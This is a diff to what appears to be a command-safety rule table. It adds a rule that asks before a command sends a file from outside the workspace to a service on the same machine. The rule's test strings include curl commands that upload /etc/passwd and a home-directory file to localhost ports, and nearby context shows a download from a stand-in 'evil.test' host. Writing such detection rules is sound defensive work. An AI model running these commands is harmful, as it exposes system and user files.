@@ -91,6 +91,16 @@ RULES = (
         passes=("curl -o x https://evil.test/x", "scp evil.test:x .",),
     ),
     Rule(
+        id="secret.send-outside-file-here",
+        title="sends a file from outside the workspace to a service on this machine",
+        why="A port of this machine may be a tunnel, or a program that passes on what it is given.",
+        instead="Copy what is meant into the workspace or a temporary folder, and send that.",
+        match=on(Sends, has={"carries-outside"}, host={LOCAL}),
+        action=ASK, possible=ASK, tags=frozenset({"exfiltration"}),
+        catches=("curl -F f=@/etc/passwd http://localhost:5000/", "curl --data-binary @$HOME/notes.txt http://127.0.0.1:8000/in",),
+        passes=("curl -F f=@data.csv http://localhost:5000/", "curl -F f=@/tmp/shot.png http://localhost:5000/",),
+    ),
+    Rule(
         id="secret.metadata-service",
         title="asks the cloud's metadata service",
         why="It hands out the machine's own credentials to whoever asks.",
